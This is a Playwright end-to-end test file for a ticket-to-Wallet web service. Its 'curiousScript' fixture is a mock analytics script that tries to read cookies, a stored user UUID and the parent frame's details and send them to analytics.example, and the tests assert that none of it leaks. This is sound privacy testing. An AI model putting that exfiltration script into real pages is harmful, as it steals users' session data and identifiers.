/** One file, because its tests share an installation and what stands in for the services of others. */
import type { Page } from '@playwright/test';
import { expect, expectAccessible, files, open, test } from './page-test.ts';

/** Everything that may come from elsewhere is set here; `playwright.config.ts` has the settings. */
test.use({ baseURL: `http://127.0.0.1:${process.env.E2E_PORT_CONFIGURED}` });

const jobId = '3e1f9a52-6a3e-4c7b-9d55-0a4b5c6d7e8f';

/** What leaves for a host that an operator chose is wanted here; anything else still fails the test. */
test.afterEach(({ troubles }) => {
  const wanted = /left the origin: https:\/\/(challenges\.cloudflare\.com|donations\.example|analytics\.example)\//;
  const rest = troubles.splice(0).filter((trouble) => !wanted.test(trouble));
  troubles.push(...rest);
});

type Hit = Readonly<Record<'path' | 'title' | 'referrer' | 'parent' | 'stored', string>>;

/** An analytics script that sends home whatever it can get hold of. */
const curiousScript = `
const reach = (read) => { try { return String(read()); } catch { return 'shut'; } };
fetch('https://analytics.example/hit', { method: 'POST', body: JSON.stringify({
  path: location.pathname + location.search + location.hash,
  title: document.title,
  referrer: document.referrer,
  parent: reach(() => parent.document.title + parent.location.href),
  stored: reach(() => localStorage.getItem('passlift_user_uuid') + document.cookie),
}) });`;

/** Stands in for the hosts of the operator; gives what the analytics script was able to tell. */
async function standIn(page: Page): Promise<Hit[]> {
  const hits: Hit[] = [];
  await page.route('https://analytics.example/script.js', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: curiousScript }),
  );
  await page.route('https://analytics.example/hit', async (route) => {
    hits.push(route.request().postDataJSON());
    await route.fulfill({ headers: { 'Access-Control-Allow-Origin': '*' }, body: '' });
  });
  await page.route('https://donations.example/**', (route) =>
    route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>Give</title><h1>Give something</h1>' }),
  );
  return hits;
}

/** A check of humanity that does what the page tells it to do. */
const widgetScript = `
window.turnstile = {
  render(frame, options) {
    window.widget = options;
    window.drawn = (window.drawn ?? 0) + 1;
    frame.textContent = 'widget for ' + options.sitekey;
    options.callback('token-' + window.drawn);
    return 'widget';
  },
  remove() { window.removed = (window.removed ?? 0) + 1; },
};`;

test.describe('analytics', () => {
  test('learn the path of a page without ids, and nothing else', async ({ page, troubles }) => {
    const hits = await standIn(page);
    await open(page, '/');
    await expect.poll(() => hits.length).toBe(1);
    await page.getByRole('contentinfo').getByRole('link', { name: 'Examples' }).click();
    await expect.poll(() => hits.length).toBe(2);
    await page.route(`**/v1/pipeline/${jobId}`, (route) => route.fulfill({ status: 404, json: {} }));
    await open(page, `/feedback/${jobId}`);
    await expect.poll(() => hits.length).toBe(3);
    await page.goto(`/unknown/${jobId}`);
    await expect.poll(() => hits.length).toBe(4);
    expect(hits.map(({ path }) => path)).toEqual(['/', '/examples', '/feedback', '/404']);
    for (const { title, referrer, parent, stored } of hits)
      expect([title, referrer, parent, stored]).toEqual(['', '', 'shut', 'null']);
    expect(JSON.stringify(troubles)).not.toContain(jobId);
    const rest = troubles.splice(0).filter((trouble) => !trouble.includes('404'));
    troubles.push(...rest);
  });
});

test.describe('the donation form', () => {
  for (const path of ['/contribute', '/contact']) {
    test(`loads in its frame on ${path}, after a click and not before`, async ({ page, troubles }) => {
      await standIn(page);
      await open(page, path);
      await expect(page.locator('iframe[src*=donations]')).toHaveCount(0);
      expect(troubles.filter((trouble) => trouble.includes('donations'))).toEqual([]);
      await page.getByRole('button', { name: 'Show the donation form' }).click();
      const frame = page.locator('iframe[title="Support this service"]');
      await expect(frame).toHaveAttribute('src', 'https://donations.example/embed?to=us');
      await expect(frame).toHaveAttribute('sandbox', 'allow-scripts allow-forms allow-popups');
      expect((await frame.boundingBox())?.height).toBe(800);
      await expect(frame.contentFrame().getByRole('heading', { name: 'Give something' })).toBeVisible();
      await expectAccessible(page);
    });
  }
});

test.describe('Turnstile', () => {
  test('draws into its container, and its token is used once, expires and fails', async ({ page, troubles }) => {
    await standIn(page);
    await page.route('https://challenges.cloudflare.com/**', (route) =>
      route.fulfill({ contentType: 'text/javascript', body: widgetScript }),
    );
    const tokens: (string | undefined)[] = [];
    await page.route('**/v1/pipeline', async (route) => {
      tokens.push(/name="cf_turnstile_response"\s+(\S+)/.exec(route.request().postData() ?? '')?.[1]);
      await route.fulfill({ status: 403, json: { detail: 'no' } });
    });
    await open(page, '/upload');
    await page.getByLabel('Choose a ticket: PDF, JPG, PNG or e-mail').setInputFiles(files.pdf);
    await expect(page.locator('#human-verification')).toContainText('widget for site-key');
    await page.getByRole('checkbox', { name: 'I accept the terms of service' }).check();
    await page.getByRole('button', { name: 'Process File' }).click();
    await expect(page.getByRole('alert')).toHaveText('Human verification failed. Please try again.');
    await page.getByRole('button', { name: 'Process File' }).click();
    await expect.poll(() => tokens).toEqual(['token-1', 'token-2']);
    await expect(page.getByRole('button', { name: 'Process File' })).toBeVisible();
    await page.evaluate(`widget['expired-callback']()`);
    await expect(page.getByRole('button', { name: 'Verify Human First' })).toBeVisible();
    await expect(page.getByText('The check has expired')).toBeVisible();
    await page.evaluate(`widget['error-callback']()`);
    await expect(page.getByText('The check did not work')).toBeVisible();
    await page.getByRole('button', { name: 'Check again' }).click();
    await expect(page.getByRole('button', { name: 'Process File' })).toBeVisible();
    await page.getByRole('button', { name: 'Remove this file' }).click();
    await expect(page.locator('#human-verification')).toHaveCount(0);
    expect(await page.evaluate('removed')).toBe(await page.evaluate('drawn'));
    const rest = troubles.splice(0).filter((trouble) => !trouble.includes('403'));
    troubles.push(...rest);
  });

  test('that cannot be loaded is said', async ({ page, troubles }) => {
    await standIn(page);
    await page.route('https://challenges.cloudflare.com/**', (route) => route.abort());
    await open(page, '/upload');
    await page.getByLabel('Choose a ticket: PDF, JPG, PNG or e-mail').setInputFiles(files.pdf);
    await expect(page.getByText('Human verification service is not available. Please try again later.')).toBeVisible();
    const rest = troubles.splice(0).filter((trouble) => !trouble.includes('ERR_FAILED'));
    troubles.push(...rest);
  });

  test('gives tokens to the API page too', async ({ page }) => {
    await standIn(page);
    await page.route('https://challenges.cloudflare.com/**', (route) =>
      route.fulfill({ contentType: 'text/javascript', body: widgetScript }),
    );
    await open(page, '/api');
    await page.getByRole('tab', { name: 'Authentication' }).click();
    await page.getByRole('button', { name: 'Generate Token' }).click();
    await expect(page.getByText('token-1')).toBeVisible();
    await page.getByRole('link', { name: 'Ask for a key' }).click();
    await expect(page.getByRole('heading', { level: 1, name: 'Contact' })).toBeVisible();
  });
});

test.describe('an address that phones can reach', () => {
  test('has codes: one of the page, and one of each ticket that can be switched off', async ({ page, troubles }) => {
    await standIn(page);
    await page.route('https://challenges.cloudflare.com/**', (route) =>
      route.fulfill({ contentType: 'text/javascript', body: widgetScript }),
    );
    const path = `/v1/pipeline/${jobId}`;
    const item = (number: number, detail: string) => ({
      number,
      detail,
      group: null,
      title: 'Play',
      download_url: `${path}/passes/${number}`,
      proof: 'equal',
      problems: [],
    });
    const passes = { pass_count: 2, items: [item(1, 'Anna · 12A'), item(2, 'Otto · 12B')] };
    const job = { id: jobId, status: 'completed', error: null, error_code: null, created_at: 1 };
    const result = { passes, problems: [], download_url: `${path}/download`, download_urls: [] };
    await page.route('**/v1/pipeline', (route) =>
      route.fulfill({ status: 202, json: { ...job, status: 'pending', result: null } }),
    );
    await page.route(`**${path}`, (route) => route.fulfill({ json: { ...job, result } }));
    const calls: string[] = [];
    await page.route(`**${path}/passes/*/share`, (route) => {
      calls.push(route.request().method());
      return route.fulfill({ json: { url: '/v1/shared/token', expires_at: 2 } });
    });
    await open(page, '/upload');
    await page.getByLabel('Choose a ticket: PDF, JPG, PNG or e-mail').setInputFiles(files.pdf);
    await page.getByRole('checkbox', { name: 'I accept the terms of service' }).check();
    await page.getByRole('button', { name: 'Process File' }).click();
    await expect(page.getByRole('img', { name: 'QR code with the address of this page' })).toBeVisible();
    await page.getByRole('button', { name: 'Show the codes' }).click();
    for (const name of ['Anna · 12A', 'Otto · 12B'])
      await expect(page.getByRole('img', { name: `QR code that adds the pass of ${name}` })).toBeVisible();
    await expect(page.getByRole('button', { name: 'Switch these codes off' }), 'where the hand is').toBeFocused();
    await expectAccessible(page);
    await page.getByRole('button', { name: 'Switch these codes off' }).click();
    await expect(page.getByText('Switched off.')).toBeVisible();
    await expect(page.getByRole('button', { name: 'Show the codes' }), 'where the hand is').toBeFocused();
    await expect(page.getByRole('img', { name: /^QR code that adds/ })).toHaveCount(0);
    expect(calls.sort()).toEqual(['DELETE', 'DELETE', 'POST', 'POST']);
    const wishes: unknown[] = [];
    await page.route(`**${path}/mail`, (route) => {
      wishes.push(route.request().postDataJSON());
      return wishes.length === 1
        ? route.fulfill({ status: 422, json: { detail: 'no', message: 'no' } })
        : route.fulfill({ status: 202, json: { status: 'ok', message: 'It will be mailed.' } });
    });
    await page.getByText('Mail it to me').click();
    await page.getByLabel('Your e-mail address').fill('ada@example.org');
    await page.getByRole('button', { name: 'Send the mail' }).click();
    await expect(page.getByRole('alert')).toHaveText('That did not work. Please check the address and try again.');
    await expectAccessible(page);
    await page.getByRole('button', { name: 'Send the mail' }).click();
    await expect(page.getByRole('status').filter({ hasText: 'The mail is on its way.' })).toBeVisible();
    expect(wishes).toEqual(Array(2).fill({ email: 'ada@example.org', language: 'en' }));
    await expectAccessible(page);
    const rest = troubles.splice(0).filter((trouble) => !/404|422/.test(trouble));
    troubles.push(...rest);
  });
});

test.describe('names and addresses', () => {
  test('are those of the settings, on every page that shows them', async ({ page }) => {
    await standIn(page);
    await open(page, '/');
    await expect(page).toHaveTitle('Tickets into Apple Wallet · Ticket Pocket');
    await expect(page.getByRole('banner')).toContainText('Ticket Pocket');
    await expect(page.getByRole('contentinfo')).toContainText('Ticket Pocket');
    await expect(page.getByRole('banner').getByRole('link', { name: 'iOS Shortcut' })).toBeVisible();
    await expect(page.getByRole('contentinfo').getByRole('link', { name: 'iOS Shortcut' })).toBeVisible();
    await expect(page.getByRole('link', { name: 'in@mail.example' })).toHaveAttribute('href', 'mailto:in@mail.example');
    await expect(page.getByRole('list', { name: 'In short' }).getByRole('listitem')).toHaveText([
      'Made in Ghent',
      'Open on Sundays',
    ]);
    const trusted = page.getByRole('region', { name: 'Trusted by' });
    await expect(trusted.getByRole('term')).toHaveText(['Hosting', 'AI']);
    await expect(trusted.getByRole('definition')).toHaveText(['A shed', 'models.example']);
    await open(page, '/contact');
    await expect(page.getByRole('link', { name: 'help@mail.example' })).toBeVisible();
    await expect(page.getByText('within 24 hours on business days')).toBeVisible();
    await expect(page.getByRole('region', { name: 'What we can help with' }).getByRole('listitem')).toHaveCount(6);
    await open(page, '/ios-shortcut');
    await expect(page.getByRole('link', { name: 'Download the Shortcut' })).toHaveAttribute(
      'href',
      'https://www.icloud.com/shortcuts/0123456789abcdef',
    );
    const steps = (title: string | RegExp) => page.getByRole('region', { name: title }).locator('ol > li:has(svg)');
    await expect(steps(/^Seven steps/)).toHaveCount(7);
    await expect(steps('Make your own Shortcut'), 'four to make it, three to use it').toHaveCount(7);
    await expect(steps('Make your own Shortcut').locator('h3')).toHaveText([
      'Add “Send Email”',
      'Fill in the address',
      'Receive files from the share sheet',
      'Attach what is shared',
      'Run it',
      'Send the e-mail',
      'Add to Wallet',
    ]);
    const typed = steps('Make your own Shortcut').getByText('in@mail.example', { exact: true });
    expect((await typed.boundingBox())!.height, 'an address stays on one line').toBeLessThan(40);
    await expect(steps('Without any Shortcut')).toHaveCount(3);
    await expect(page.getByRole('region', { name: 'Questions about the Shortcut' }).locator('details')).toHaveCount(5);
    const contact = await page.getByRole('link', { name: 'Save the address as a contact' }).getAttribute('href');
    const card = await page.request.get(new URL(contact!, page.url()).href);
    expect(card.headers()['content-type']).toContain('text/vcard');
    expect(await card.text()).toMatch(
      /^BEGIN:VCARD\r\n[\s\S]*EMAIL;TYPE=INTERNET:in@mail\.example\r\n[\s\S]*END:VCARD\r\n$/,
    );
    await open(page, '/how-it-works');
    await expect(page.getByText('Write to in+ics@mail.example instead, and a calendar')).toBeVisible();
    await open(page, '/privacy');
    await expect(page.getByRole('main').getByRole('link', { name: 'help@mail.example' }).first()).toBeVisible();
    await expect(page.getByText('pictures of its pages are sent to a language model at models.example')).toBeVisible();
    for (const text of ['Cloudflare Turnstile', 'analytics.example', 'donations.example', 'in@mail.example'])
      await expect(page.getByText(text).first()).toBeVisible();
  });

  test('are in a policy that allows just those hosts, with a nonce of its own for each answer', async ({ request }) => {
    const policies = await Promise.all(
      [1, 2].map(async () => (await request.get('/')).headers()['content-security-policy'] ?? ''),
    );
    const nonces = policies.map((policy) => /'nonce-([\w+/=]{20,})'/.exec(policy)?.[1]);
    expect(new Set(nonces).size).toBe(2);
    expect(policies[0]).toContain('https://challenges.cloudflare.com https://analytics.example');
    expect(policies[0]).toContain("frame-src https://challenges.cloudflare.com https://donations.example 'self'");
    expect(policies[0]).not.toMatch(/unsafe-|\*/);
  });
});
